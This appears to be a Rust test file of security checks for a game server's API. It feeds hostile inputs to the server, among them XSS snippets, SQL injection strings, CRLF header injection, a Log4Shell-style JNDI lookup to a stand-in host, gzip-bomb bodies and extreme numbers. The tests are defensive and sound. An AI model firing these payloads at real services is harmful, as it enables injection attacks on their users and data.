//! Security lines about texts and numbers that strangers send, by their ids.

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::client::{Server, raw};
use crate::hanging::Holder;

/// What somebody may want a page, a database or a log to obey.
const TEXTS: [&str; 12] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "</title><svg onload=alert(1)>",
    "'; DROP TABLE round; --",
    "' OR '1'='1",
    "x\r\nSet-Cookie: fairyring=evil",
    "x\nHTTP/1.1 200 OK",
    "\u{0}\u{1b}[2J",
    "\u{202e}evil",
    "${jndi:ldap://evil.test}",
    "%0d%0aX: y",
];

/// Where such a text may stand: alone, in quotes of several languages, behind what is harmless, in other encodings of itself.
fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    for text in TEXTS {
        all.push(text.to_owned());
        for (before, after) in [
            ("", " "),
            ("Ada", ""),
            ("'", "'"),
            ("\"", "\""),
            ("`", "`"),
            ("<b>", "</b>"),
            ("{{", "}}"),
            ("/*", "*/"),
            ("<!--", "-->"),
            ("]]>", "<![CDATA["),
            ("\\", "\\"),
            ("data:text/html,", ""),
        ] {
            all.push(format!("{before}{text}{after}"));
        }
        all.push(text.chars().rev().collect());
        all.push(text.to_uppercase());
        all.push(text.replace('<', "&lt;").replace('\'', "''"));
        all.push(text.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"));
    }
    all
}

fn create(name: Option<&str>, terms: &Value) -> Value {
    json!({"terms": terms, "side": "first", "name": name})
}

/// S12, S13, S14: texts of strangers are texts: refused or kept as they are, and never more.
#[test]
fn s12_s13_s14_texts_are_texts() {
    let folder = tempfile::tempdir().unwrap();
    let server = Server::start(folder.path());
    let mut ada = server.client();
    let (before, _) = ada.create(&json!({"game": "xiangqi"}));
    let payloads = payloads();
    assert!(payloads.len() >= 200, "{}", payloads.len());
    for text in payloads.iter().map(String::as_str) {
        let mut bodies = vec![create(Some(text), &json!({"game": "xiangqi"}))];
        for terms in [
            json!({"game": text}),
            json!({"game": "xiangqi", "options": {text: text}}),
            json!({"game": "xiangqi", "start": {"position": text}}),
            json!({"game": "xiangqi", "start": {"setup": text}}),
        ] {
            bodies.push(create(None, &terms));
        }
        for body in &mut bodies {
            body["command"] = ada.command().into();
            let told = ada.post("/api/v1/rounds", body);
            assert!([201, 400, 422].contains(&told.status), "{text}: {told:?}");
            assert_eq!(
                told.header("content-type"),
                Some("application/json; charset=utf-8")
            );
            assert!(
                told.header("content-security-policy")
                    .unwrap()
                    .contains("default-src 'none'")
            );
            assert!(
                !told
                    .header("set-cookie")
                    .unwrap_or_default()
                    .contains("evil")
            );
            if told.status == 201 {
                let round = told.json()["round"].as_str().unwrap().to_owned();
                let head = ada.get(&format!("/api/v1/rounds/{round}")).json();
                assert_eq!(head["head"]["chairs"]["first"]["name"], text);
            }
        }
        let encoded: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let told = ada.get(&format!("/api/v1/rounds/{encoded}"));
        assert!([400, 404].contains(&told.status), "{text}: {told:?}");
    }
    // Nobody is allowed names that a terminal or a reader would obey.
    for text in ["x\r\ny", "\u{1b}[2J", "\u{202e}evil"] {
        let mut body = create(Some(text), &json!({"game": "xiangqi"}));
        body["command"] = ada.command().into();
        assert_eq!(
            ada.post("/api/v1/rounds", &body).refusal(),
            (422, "E_NAME".to_owned())
        );
    }
    assert_eq!(ada.get(&format!("/api/v1/rounds/{before}")).status, 200);
}

/// S13: no text of a stranger is put into a statement.
#[test]
fn s13_no_statement_is_put_together() {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/../store/src");
    let mut folders = vec![std::path::PathBuf::from(folder)];
    let mut looked_at = 0;
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            let text = std::fs::read_to_string(&path).unwrap();
            looked_at += 1;
            for (at, _) in text.match_indices("format!(") {
                let made: String = text[at..].chars().take(160).collect();
                let made = made.split(';').next().unwrap().to_owned();
                let is_statement = ["SELECT ", "INSERT ", "UPDATE ", "DELETE ", "CREATE "]
                    .iter()
                    .any(|word| made.contains(word));
                // A constant of the program, such as a list of columns, is no text of a stranger.
                let is_constant = |part: &str| {
                    let name = part.split('}').next().unwrap_or_default();
                    !name.is_empty()
                        && name
                            .chars()
                            .all(|letter| letter.is_ascii_uppercase() || letter == '_')
                };
                let is_fixed = made.split('{').skip(1).all(is_constant);
                assert!(!is_statement || is_fixed, "{}: {made}", path.display());
            }
        }
    }
    assert!(looked_at > 10);
}

/// S17: what is packed is not unpacked, and what is long is not read.
#[test]
fn s17_no_body_is_unpacked() {
    let folder = tempfile::tempdir().unwrap();
    let server = Server::start(folder.path());
    let body = json!({"command": "0123456789abcdef0123456789abcdef", "terms": {"game": "xiangqi"}, "side": "first"});
    let lines = |more: &str| {
        vec![
            format!("Host: {}", server.address),
            "Content-Type: application/json".to_owned(),
            "Connection: close".to_owned(),
            more.to_owned(),
        ]
    };
    // The smallest answer of a bomb: two letters of gzip that would say a million.
    for coding in [
        "gzip",
        "x-gzip",
        "br",
        "deflate",
        "zstd",
        "compress",
        "gzip, gzip",
        "identity, br",
    ] {
        let head = lines(&format!("Content-Encoding: {coding}"));
        let told = raw(
            server.address,
            "POST",
            "/api/v1/rounds",
            &head,
            "\u{1f}\u{8}AAAA",
        )
        .unwrap();
        assert_eq!(told.refusal(), (400, "E_PROTOCOL".to_owned()), "{coding}");
    }
    let long = format!("{}{}", body, " ".repeat(20_000));
    let told = raw(
        server.address,
        "POST",
        "/api/v1/rounds",
        &lines("X: y"),
        &long,
    )
    .unwrap();
    assert_eq!(told.refusal(), (400, "E_PROTOCOL".to_owned()));
    let deep = "[".repeat(10_000);
    let told = raw(
        server.address,
        "POST",
        "/api/v1/rounds",
        &lines("X: y"),
        &deep,
    )
    .unwrap();
    assert_eq!(told.refusal(), (400, "E_PROTOCOL".to_owned()));
}

/// S18: whoever asks for a great deal keeps nobody from playing.
#[test]
fn s18_questions_keep_nobody_from_playing() {
    let folder = tempfile::tempdir().unwrap();
    let server = Server::start(folder.path());
    let (mut ada, mut bob) = (server.client(), server.client());
    let (round, token) = ada.create(&json!({"game": "cotulenh"}));
    assert_eq!(bob.sit(&round, &token).status, 200);
    ada.legal(&round);
    let until = Instant::now() + Duration::from_secs(2);
    let longest = std::thread::scope(|scope| {
        for _ in 0..6 {
            let (mut asker, round) = (server.client(), &round);
            scope.spawn(move || {
                while Instant::now() < until {
                    let told = asker.get(&format!("/api/v1/rounds/{round}/legal?turn="));
                    assert!([200, 429].contains(&told.status), "{told:?}");
                }
            });
        }
        let (mut longest, mut choose) = (Duration::ZERO, 5);
        for ply in 0..10 {
            let player = if ply % 2 == 0 { &mut ada } else { &mut bob };
            let stands = player.legal(&round)["ply"].as_u64().unwrap();
            let turn = player.whole_turn(&round, &mut choose);
            let began = Instant::now();
            let action = json!({"do": "play", "ply": stands, "turn": turn});
            assert_eq!(player.act(&round, &action).status, 200);
            longest = longest.max(began.elapsed());
        }
        longest
    });
    assert!(longest < Duration::from_secs(2), "{longest:?}");
}

/// S21: numbers at and beyond every edge.
#[test]
fn s21_no_number_is_too_great_to_refuse() {
    let folder = tempfile::tempdir().unwrap();
    let server = Server::start(folder.path());
    let (mut ada, mut bob) = (server.client(), server.client());
    let (round, token) = ada.create(&json!({"game": "xiangqi"}));
    assert_eq!(bob.sit(&round, &token).status, 200);
    ada.legal(&round);
    let numbers = [
        "-1",
        "4294967295",
        "4294967296",
        "18446744073709551616",
        "1e308",
        "0.5",
        "-0.0",
        "NaN",
    ];
    for number in numbers {
        let texts = [
            format!("{{\"do\":\"play\",\"ply\":{number},\"turn\":\"h2e2\"}}"),
            format!("{{\"do\":\"answer_draw\",\"offer\":{number},\"accept\":true}}"),
            format!("{{\"do\":\"ask_takeback\",\"to\":{number}}}"),
            format!("{{\"do\":\"play\",\"ply\":1,\"turn\":\"h2e2\",\"timing\":{number}}}"),
        ];
        for action in texts {
            let body = format!("{{\"command\":\"{}\",\"action\":{action}}}", ada.command());
            let head = [
                format!("Host: {}", server.address),
                format!("Cookie: {}", ada.cookie.clone().unwrap()),
                "Content-Type: application/json".to_owned(),
                "Connection: close".to_owned(),
            ];
            let path = format!("/api/v1/rounds/{round}/commands");
            let told = raw(server.address, "POST", &path, &head, &body).unwrap();
            assert!((400..500).contains(&told.status), "{action}: {told:?}");
        }
        let after = ada.get(&format!("/api/v1/rounds/{round}/entries?after={number}"));
        assert!([200, 400].contains(&after.status), "{number}");
        let before = ada.get(&format!("/api/v1/me/rounds?before={number}"));
        assert!([200, 400].contains(&before.status), "{number}");
    }
    for clock in [
        json!({"kind": "live", "base_ms": 4_294_967_295_u32, "increment_ms": 4_294_967_295_u32}),
        json!({"kind": "live", "base_ms": 0, "increment_ms": 0}),
        json!({"kind": "days", "days": 0}),
        json!({"kind": "days", "days": 4_294_967_295_u32}),
    ] {
        let mut body = create(None, &json!({"game": "xiangqi", "clock": clock}));
        body["command"] = ada.command().into();
        let told = ada.post("/api/v1/rounds", &body);
        assert!([400, 422].contains(&told.status), "{told:?}");
    }
    assert_eq!(ada.entries(&round).len(), 1);
}

/// S28: nothing but what players need is answered.
#[test]
fn s28_nothing_to_manage_is_in_sight() {
    let folder = tempfile::tempdir().unwrap();
    let server = Server::start(folder.path());
    let mut client = server.client();
    for path in [
        "/metrics",
        "/admin",
        "/debug",
        "/debug/pprof/",
        "/status",
        "/api",
        "/api/v1/admin",
        "/api/v1/people",
        "/server-status",
    ] {
        assert_eq!(client.get(path).status, 404, "{path}");
    }
    let about = client.get("/api/v1");
    assert_eq!(about.status, 200);
    for word in ["rounds", "people", "path", "host", "database"] {
        assert!(!about.text.contains(word), "{}", about.text);
    }
    for method in ["PUT", "TRACE", "OPTIONS", "DELETE"] {
        let told = client.send(method, "/api/v1/rounds", None);
        assert_eq!(told.status, 405, "{method}");
    }
    for path in ["/livez", "/readyz"] {
        assert!(client.get(path).text.len() < 20, "{path}");
    }
}

/// S23: a store that takes nothing is a refusal: nobody is let in, nothing is done, and afterwards the same request works.
#[test]
fn s23_without_the_store_nothing_is_granted() {
    let folder = tempfile::tempdir().unwrap();
    let server = Server::start(folder.path());
    let (mut ada, mut bob) = (server.client(), server.client());
    let (round, token) = ada.create(&json!({"game": "xiangqi"}));
    let holder = Holder::of(folder.path());
    let sit = json!({"command": bob.command(), "token": token, "name": "Bob"});
    let told = bob.post(&format!("/api/v1/rounds/{round}/chair"), &sit);
    assert_eq!(told.refusal(), (503, "E_STORE".to_owned()));
    assert!(told.header("retry-after").is_some());
    assert_eq!(bob.cookie, None, "nobody was made");
    assert_eq!(ada.get("/readyz").status, 503, "it says so");
    assert_eq!(ada.get("/livez").status, 200);
    let head = ada.get(&format!("/api/v1/rounds/{round}")).json();
    assert_eq!(head["head"]["chairs"]["second"]["taken"], false);
    holder.let_go();
    let sat = (0..50).any(|_| {
        std::thread::sleep(Duration::from_millis(100));
        bob.post(&format!("/api/v1/rounds/{round}/chair"), &sit)
            .status
            == 200
    });
    assert!(sat, "the same request works when the store is back");
    assert_eq!(ada.get("/readyz").status, 200);
}
